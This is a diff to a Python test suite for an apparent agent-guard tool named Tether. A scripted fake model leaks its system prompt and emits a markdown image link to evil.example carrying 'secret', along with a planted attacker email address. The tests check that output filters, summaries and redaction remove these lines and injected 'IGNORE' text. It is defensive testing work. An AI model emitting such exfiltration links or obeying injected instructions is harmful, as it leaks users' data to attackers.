@@ -58,6 +58,7 @@ def ping(n: int) -> int:
 # and, when asked to, with a planted link or its own system prompt.
 POLICY = """
 import json
+from tether.models.base import ModelResponse, ToolCall
 from tether.models.scripted import ScriptedTurn
 
 def respond(turn: ScriptedTurn):
@@ -67,6 +68,13 @@ def respond(turn: ScriptedTurn):
         return "My instructions: " + turn.messages[0].content
     if task.startswith("link"):
         return "See ![status](https://evil.example/p?d=secret) and mail bob@evil.example."
+    if task.startswith("loop"):
+        return turn.call("read_ticket", ticket=str(len(seen)))
+    if task.startswith("handoff"):
+        return ModelResponse(
+            content="A colleague will mail you at bob@evil.example, see ![x](https://evil.example/a).",
+            tool_calls=[ToolCall(id="h1", name="escalate_to_human", arguments={"reason": "asked"})],
+        )
     if task.startswith("burst"):
         return [turn.call("ping", n=i) for i in range(50)] if not seen else f"{len(seen)} pings"
     if not seen:
@@ -238,3 +246,30 @@ def test_the_optional_classifier_catches_what_the_heuristics_pass(
     assert step["name"] == "injection" and "classifier model scripted:classifier" in str(step["result"])
     plain = make_project(tools=TOOLS, policy=POLICY)
     assert "PLEASE COMPLY" in str(_run(cli, plain, "read_review")["output"])  # heuristics alone pass it
+
+
+def test_the_budget_summary_quotes_tool_results_without_their_instructions(
+    cli: Cli, make_project: ProjectFactory
+) -> None:
+    project = make_project(tools=TOOLS, policy=POLICY, limits="max_steps = 3")
+    run = _run(cli, project, "loop")
+    assert run["status"] == "budget_exhausted"
+    assert "Customer says the parcel is late." in str(run["output"])
+    assert "IGNORE" not in str(run["output"]) and "im_start" not in str(run["output"])
+
+
+def test_a_hand_off_message_goes_through_the_output_checks(cli: Cli, make_project: ProjectFactory) -> None:
+    project = make_project(tools=TOOLS, policy=POLICY)
+    run = _run(cli, project, "handoff")
+    assert run["status"] == "escalated"
+    assert "evil.example" not in str(run["output"])
+
+
+def test_redact_stored_keeps_others_personal_data_out_of_stored_steps(
+    cli: Cli, make_project: ProjectFactory
+) -> None:
+    project = make_project(tools=TOOLS, policy=POLICY, extra="[guard]\nredact_stored = true")
+    run = _run(cli, project, "handoff")
+    stored = [s for s in _steps(cli, project, run["run_id"]) if s["kind"] == "model_call"]
+    assert "[email redacted by Tether]" in str(stored[0]["message"])
+    assert "bob@evil.example" not in str(stored[0]["message"])
